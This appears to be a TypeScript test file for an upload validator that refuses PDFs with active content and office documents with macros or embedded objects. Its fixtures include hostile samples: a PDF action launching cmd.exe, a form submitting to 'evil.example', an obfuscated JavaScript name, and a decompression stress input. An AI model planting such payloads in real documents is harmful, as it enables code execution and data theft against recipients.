import { deflateSync } from 'node:zlib'
import { strToU8, type Zippable, zipSync } from 'fflate'
import { officeKind } from './read-office'
import { pdfFault } from './read-pdf'

/** A PDF of these objects, with one picture whose bytes look like what is refused. */
const pdf = (objects: string, more: Buffer = Buffer.alloc(0)) =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R ${objects}>>\nendobj\n`),
    Buffer.from('3 0 obj\n<</Type/XObject/Length 20>>\nstream\n/JavaScript /Launch /JS\nendstream\nendobj\n'),
    more,
    Buffer.from('trailer\n<</Root 1 0 R>>\n%%EOF'),
  ])

const packed = (objects: string, filter = '/Filter/FlateDecode') =>
  Buffer.concat([
    Buffer.from(`5 0 obj\n<</Type/ObjStm/N 1/First 4${filter}>>\nstream\n`),
    filter ? deflateSync(objects) : Buffer.from(objects),
    Buffer.from('\nendstream\nendobj\n'),
  ])

describe('a PDF', () => {
  test('that only shows something is taken', () => {
    expect(pdfFault(pdf('/Outlines 4 0 R /URI (https://example.org)'))).toBeNull()
    expect(pdfFault(pdf('', packed('6 0 <</Type/Font/BaseFont/Hind>>')))).toBeNull()
  })

  test.each([
    ['a program', '/OpenAction<</S/JavaScript/JS(app.alert(1))>>'],
    ['a program in disguise', '/OpenAction<</S/J#61vaScript>>'],
    ['a start of another program', '/A<</S/Launch/F(cmd.exe)>>'],
    ['a file within', '/Names<</EmbeddedFiles 9 0 R>>'],
    ['a form that is a program', '/AcroForm<</XFA 9 0 R>>'],
    ['a form that sends', '/A<</S/SubmitForm/F(https://evil.example)>>'],
  ])('with %s is refused', (_, objects) => {
    expect(pdfFault(pdf(objects))).toBe('active')
    expect(pdfFault(pdf('', packed(objects)))).toBe('active')
    expect(pdfFault(pdf('', packed(objects, '')))).toBe('active')
  })

  test('with a password is refused', () => {
    expect(pdfFault(pdf('', Buffer.from('xref\ntrailer\n<</Encrypt 9 0 R>>')))).toBe('locked')
  })

  test('whose objects cannot be unpacked is refused', () => {
    const broken = packed('6 0 <</S/JavaScript>>').subarray(0, 70)
    expect(pdfFault(pdf('', Buffer.concat([broken, Buffer.from('\nendstream')])))).toBe('unreadable')
    expect(pdfFault(pdf('', packed('6 0 <<>>', '/Filter[/ASCII85Decode/FlateDecode]')))).toBe('unreadable')
    expect(pdfFault(pdf('', packed('/A'.padEnd(120_000_000, ' '))))).toBe('unreadable')
  })

  test.each(['', 'Not a PDF', '<html>%PDF-1.7', '%PDF-9'])('is not %j', (text) => {
    expect(pdfFault(Buffer.from(text))).toBe('notOne')
  })
})

const word = { '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<w:document/>') }
const zip = (files: Zippable) => Buffer.from(zipSync(files))
const openDocument = (type: string, more: Zippable = {}) =>
  zip({
    mimetype: [strToU8(`application/vnd.oasis.opendocument.${type}`), { level: 0 }],
    'content.xml': strToU8(''),
    ...more,
  })

describe('a document of an office program', () => {
  test('is known by what is in it', () => {
    expect(officeKind(zip(word))).toBe('docx')
    expect(officeKind(zip({ '[Content_Types].xml': strToU8(''), 'xl/workbook.xml': strToU8('') }))).toBe('xlsx')
    expect(officeKind(openDocument('text'))).toBe('odt')
    expect(officeKind(openDocument('spreadsheet'))).toBe('ods')
  })

  test.each(['word/vbaProject.bin', 'word/embeddings/oleObject1.bin', 'word/activeX/activeX1.xml'])(
    'with %s is refused',
    (name) => {
      expect(officeKind(zip({ ...word, [name]: strToU8('x') }))).toBe('active')
    },
  )

  test.each(['Basic/Standard/Module1.xml', 'Scripts/python/a.py', 'Object 1/content.xml'])(
    'with %s is refused',
    (name) => {
      expect(officeKind(openDocument('text', { [name]: strToU8('x') }))).toBe('active')
    },
  )

  test('is no other archive', () => {
    expect(officeKind(zip({ 'a.txt': strToU8('a') }))).toBe('notOne')
    expect(officeKind(openDocument('text-template'))).toBe('notOne')
    expect(officeKind(Buffer.from('PK\u0003\u0004 broken'))).toBe('notOne')
  })

  test('with very many parts is refused', () => {
    const parts = Object.fromEntries(Array.from({ length: 5001 }, (_, n) => [`a/${n}`, strToU8('')]))
    expect(officeKind(zip({ ...word, ...parts }))).toBe('tooMuch')
  })
})
